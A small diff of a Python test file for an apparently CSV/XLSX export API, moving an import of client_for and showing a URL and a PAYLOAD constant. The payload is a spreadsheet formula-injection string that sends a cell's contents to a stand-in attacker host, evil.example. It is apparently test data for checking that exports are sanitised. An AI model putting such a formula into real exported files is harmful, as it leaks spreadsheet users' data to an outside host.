@@ -12,7 +12,7 @@ from outreach.models import SignalTheme
 from outreach.services.signals import signal_forward, signal_record
 from reach.exports import to_csv, to_xlsx
 from reach.services import reach_refresh
-from tests.conftest import client_for
+from tests.helpers import client_for
 
 URL = "/api/v1/reach/"
 PAYLOAD = '=HYPERLINK("https://evil.example/?"&A1,"x12")'
